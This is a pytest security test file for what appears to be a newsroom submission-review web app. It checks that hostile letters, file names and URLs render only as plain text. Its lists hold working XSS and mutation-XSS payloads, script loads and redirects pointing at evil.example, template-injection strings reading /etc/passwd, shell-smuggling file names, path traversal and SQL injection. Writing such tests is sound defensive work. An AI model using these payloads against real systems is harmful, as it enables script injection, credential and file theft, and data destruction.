"""What a hostile source writes stays text: no element, no attribute and no address of a page is of its making."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from knothole_client.desk import vault
from knothole_client.review.app import POLICY
from tests.desk.conftest import PASSPHRASE, Desk
from tests.review.desks import Page, Visitor, served
from tests.support.drop import Drop, seal_submission, write_out

MESSAGES = [
    "<script>alert(1)</script>",
    "</div></article></main><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=/lock method=post><input name=token>",
    "<textarea></textarea></textarea><b>out</b>",
    "<title></title><plaintext>",
    "<!-- ",
    "]]><![CDATA[",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ token('/lock') }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
    "\u202eevil\u202c \u2066isolated \u200b\u200e\u200f",
    "\x1b[2J\x1b]0;title\x07 \x00 \x85 \u2028\u2029",
    "W" * 5000,
    "ﷺ" * 300 + "̸" * 500,
    "a\n" * 3000,
    "data:text/html,<script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<object data=x><embed src=x><video><source onerror=alert(1)>",
]  # fmt: skip
NAMES = [
    "<script>alert(1)<:script>.png",
    '"><img src=x onerror=alert(1)>',
    "' onerror='alert(1)",
    "items",
    "__class__",
    "keys",
    "invoice.pdf.exe",
    "javascript:alert(1)",
    "{{ 7*7 }}.txt",
    "&lt;b&gt;.txt",
    "x" * 240 + ".txt",
    "-rf *.txt",
    "$(touch pwned).txt",
    "وثيقة.pdf",
    "文件 名.txt",
    "e\u0301\u200d.txt",
    "..name..",
    " .txt".strip() + " x",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "con.txt;evil.example",
]
# Which the format itself refuses: no such letter ever reaches a page.
ADDRESSES = [
    "/letters/../../etc/passwd", "/letters/%2e%2e/%2e%2e/etc/passwd", "/threads/<script>", "/looks/..%2f..%2fx/1.png",
    "/found/' or 1=1", "/letters/{id}/files/-1", "/letters/{id}/files/999999999999999999999", "/jobs/x",
    "/desk.css/../vault.db",
    "/?label=<script>", "/?sort=';drop table records", "/log?page=99999999999999999999", "/letters/{id}?part=-5&files=1e9",
    "/enter/x", "//evil.example/", "/answers/1/withdraw", "/static/desk.css", "/vault.db",
]  # fmt: skip
ELEMENTS = {
    "html", "head", "meta", "title", "link", "body", "a", "header", "form", "label", "input", "button", "section", "p",
    "strong",
    "code", "div", "main", "h1", "h2", "h3", "nav", "ul", "ol", "li", "bdi", "span", "small", "footer", "article", "textarea",
    "select", "option", "aside", "dl", "dt", "dd", "details", "summary", "fieldset", "legend", "time", "img", "mark", "kbd",
    "svg", "g", "path", "progress",
}  # fmt: skip
ATTRIBUTES = re.compile(r"on[a-z]+|style|srcdoc|formaction|srcset|ping|data", re.IGNORECASE)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Visitor, list[str]]]:
    from tests.desk.conftest import NOW
    from tests.support.drop import make_drop

    with pytest.MonkeyPatch.context() as patch:
        from knothole_keys import clock

        patch.setattr(clock, "now", lambda: NOW)
        folder = tmp_path_factory.mktemp("hostile")
        drop: Drop = make_drop(recipients=[], now=NOW)
        desk = Desk(folder / "vault", drop).join()
        files = [{name: b"x" + bytes([number])} for number, name in enumerate(NAMES)] + [{}] * len(MESSAGES)
        sent = [
            seal_submission(drop, message, file, language="zh" if number % 2 else "en")
            for number, (message, file) in enumerate(zip(MESSAGES, files, strict=False))
        ]
        desk.take_in(write_out(folder / "out", drop, [box for one in sent for box in one.boxes]))
        with vault.opened(desk.path, PASSPHRASE) as one:
            assert one.records.count("submission") == len(MESSAGES)
        with served(desk.path) as serving:
            yield Visitor(serving).enter(), [one.id.hex() for one in sent]


def check(page: Page) -> None:
    for tag, found in page.elements:
        assert tag in ELEMENTS, tag
        assert not [name for name in found if ATTRIBUTES.fullmatch(name)], (tag, found)
        for name in ("href", "src", "action"):
            assert re.fullmatch(r"(/[A-Za-z0-9/?=&._#-]*|#[a-z]+)", found.get(name) or "/"), (tag, found)
        if tag == "meta" and "http-equiv" in found:
            assert found["content"] == "301;url=/locked"
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u2028\u2029]", page.source)


@pytest.mark.parametrize("number", range(len(MESSAGES)))
def test_no_letter_makes_anything_but_text(hostile: tuple[Visitor, list[str]], number: int) -> None:
    visitor, ids = hostile
    for path in (f"/letters/{ids[number]}", f"/letters/{ids[number]}/print"):
        answer = visitor.client.get(path)
        assert answer.headers["content-security-policy"] == POLICY
        page = Page(answer.text)
        check(page)
        if MESSAGES[number].isprintable() and MESSAGES[number].isascii():
            assert MESSAGES[number] in page.text


@pytest.mark.parametrize("number", range(len(NAMES)))
def test_no_name_makes_anything_but_text(hostile: tuple[Visitor, list[str]], number: int) -> None:
    visitor, ids = hostile
    page = visitor.get(f"/letters/{ids[number]}/files/1")
    check(page)
    if NAMES[number].isascii():
        assert NAMES[number] in page.text
    assert "The same file" not in page.text


def test_the_inbox_and_the_search_show_them_as_text(hostile: tuple[Visitor, list[str]]) -> None:
    visitor, _ = hostile
    desk = visitor.serving.room._desk
    assert desk
    assert desk.search._index.wait(60)
    inbox = visitor.get("/")
    check(inbox)
    for query in ("script", "alert", "onerror", '"img src"', "evil*", "<script> \" ' OR NEAR(", "(" * 300):
        page = visitor.fill(inbox, "/search", ("query", query))
        check(page)
    for path in ("/log", "/help", "/?sort=-size"):
        check(visitor.get(path))


@pytest.mark.parametrize("path", ADDRESSES)
def test_an_odd_address_leads_nowhere(hostile: tuple[Visitor, list[str]], path: str) -> None:
    visitor, ids = hostile
    answer = visitor.client.get(path.replace("{id}", ids[0]), follow_redirects=False)
    assert answer.status_code in (200, 400, 403, 404, 405, 421)
    assert "root:" not in answer.text
    assert "SQLite" not in answer.text
    if answer.headers.get("content-type", "").startswith("text/html"):
        check(Page(answer.text))


def test_labels_notes_and_roles_are_text_as_well(hostile: tuple[Visitor, list[str]]) -> None:
    visitor, ids = hostile
    path = f"/letters/{ids[0]}"
    for text in ('"><script>alert(1)</script>', "</textarea><script>", "\u202e<b>"):
        page = visitor.fill(visitor.get(path), f"{path}/note", ("note", text))
        check(page)
        page = visitor.fill(
            page, f"{path}/mark", ("state", "new"), ("labels", text.replace("\u202e", "")), ("assigned", '"><b>')
        )
        check(page)
        check(visitor.get("/"))
        # What a journalist typed stands in its own box as it was typed, marks of direction included.
        plain = text.replace("\u202e", "")
        page = visitor.fill(visitor.get("/templates"), "/templates", ("name", f"t{plain}"), ("text", plain))
        check(page)
        check(
            visitor.get([found["href"] or "" for tag, found in page.elements if tag == "a" and "/templates/" in str(found)][-1])
        )
        check(visitor.get(path))
    assert Path("/tmp/pwned").exists() is False  # noqa: S108
